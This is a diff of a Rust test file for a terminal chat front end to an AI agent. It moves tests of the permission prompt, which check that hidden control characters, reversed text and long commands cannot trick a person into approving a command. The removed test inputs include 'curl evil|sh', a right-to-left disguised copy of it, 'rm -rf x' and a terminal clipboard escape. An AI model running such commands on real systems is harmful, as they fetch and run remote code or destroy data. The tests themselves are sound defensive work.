@@ -1,5 +1,7 @@
 //! `teamster chat` in a pseudo-terminal.
 
+mod permissions;
+
 use std::process::{Command, Stdio};
 
 use rexpect::process::{Signal, WaitStatus};
@@ -114,75 +116,6 @@ fn a_conversation_is_shown_as_it_happens_and_its_id_is_shown_at_the_end() {
 }
 
 #[test]
-fn permission_is_requested_and_only_a_clear_answer_counts() {
-    for (answer, received) in
-        [("y", r#""behavior":"allow""#), ("n not now", r#""behavior":"deny","message":"not now""#)]
-    {
-        let mut chat = Chat::open();
-        chat.type_line("please ask");
-        chat.wait_for("Bash asks for permission");
-        chat.wait_for("touch x");
-        chat.wait_for("and why: ");
-        chat.type_line("perhaps");
-        chat.wait_for("invalid answer");
-        chat.wait_for("and why: ");
-        chat.type_line(answer);
-        chat.wait_for(LAST);
-        chat.wait_for("> ");
-        assert!(chat.received().contains(received), "{}", chat.received());
-        chat.type_line("/quit");
-        chat.wait_for_exit(0);
-    }
-}
-
-#[test]
-fn a_permission_prompt_shows_characters_that_a_terminal_would_hide() {
-    for (command, shown) in [
-        ("true '\u{1b}]'; touch X; echo '\u{7}'", "command: true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
-        ("ls \u{9d}; curl evil|sh \u{9c}", "command: ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
-        ("echo \u{202e}hs|live lruc", "command: echo ⟦U+202E⟧hs|live lruc"),
-        ("ls\n? Read asks for permission", "command: ls⟦LF⟧\r\n      │ ? Read asks for permission"),
-    ] {
-        let mut chat = Chat::new(&[], |chat| {
-            chat.env("REQUEST", request("Bash", &json!({ "command": command })));
-        });
-        chat.wait_for("> ");
-        chat.type_line("please ask");
-        chat.wait_for("? [execute] Bash asks for permission\r\n");
-        let prompt = sent(&chat.wait_for("and why: "));
-        assert!(prompt.contains(shown), "{prompt:?}");
-        assert!(
-            !prompt.contains(['\u{7}', '\u{9c}', '\u{9d}', '\u{202e}']) && !prompt.contains("\u{1b}]"),
-            "{prompt:?}"
-        );
-        chat.type_line("n");
-        chat.wait_for(LAST);
-        chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
-        chat.wait_for_exit(130);
-    }
-}
-
-#[test]
-fn the_end_of_a_long_call_is_counted_in_the_prompt_and_shown_on_demand() {
-    let command = format!("{}rm -rf x", "true\n".repeat(40));
-    let mut chat = Chat::new(&[], |chat| {
-        chat.env("REQUEST", request("Bash", &json!({ "command": command })));
-    });
-    chat.wait_for("> ");
-    chat.type_line("please ask");
-    chat.wait_for("NOT SHOWN: 17 more lines");
-    let prompt = chat.wait_for("and why: ");
-    assert!(prompt.contains("v = show 17 more lines"), "{prompt:?}");
-    chat.type_line("v");
-    chat.wait_for("rm -rf x");
-    chat.wait_for("and why: ");
-    chat.type_line("n");
-    chat.wait_for(LAST);
-    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
-    chat.wait_for_exit(130);
-}
-
-#[test]
 fn a_session_id_cannot_control_the_terminal() {
     let folder = tempfile::tempdir().unwrap();
     let hostile = folder.path().join("hostile");
@@ -199,20 +132,6 @@ fn a_session_id_cannot_control_the_terminal() {
     chat.press('d');
     let shown = sent(&chat.screen.exp_eof().unwrap());
     assert!(shown.contains("--resume '⟦ESC⟧]52;c;eA==⟦BEL⟧;x'") && !shown.contains("\u{1b}]"), "{shown:?}");
-}
-
-#[test]
-fn lines_that_are_pasted_before_a_request_do_not_answer_it() {
-    let mut chat = Chat::open();
-    // All lines arrive at once, as in a terminal without bracketed paste.
-    chat.type_line("please ask\ry\ry");
-    chat.wait_for("and why: ");
-    assert!(!chat.received().contains("behavior"), "{}", chat.received());
-    chat.type_line("n");
-    chat.wait_for(LAST);
-    assert!(chat.received().contains(r#""behavior":"deny""#), "{}", chat.received());
-    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
-    chat.wait_for_exit(130);
 }
 
 #[test]
@@ -249,18 +168,6 @@ fn ctrl_c_interrupts_the_agent_and_two_at_the_prompt_end_the_conversation() {
     chat.wait_for("> ");
     chat.press('c');
     chat.wait_for_exit(0);
-}
-
-#[test]
-fn ctrl_c_at_a_request_denies_it() {
-    let mut chat = Chat::open();
-    chat.type_line("please ask");
-    chat.wait_for("and why: ");
-    chat.press('c');
-    chat.wait_for("asked the agent to stop");
-    until("the denial is received", || chat.received().contains(r#""behavior":"deny""#));
-    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
-    chat.wait_for_exit(130);
 }
 
 #[test]
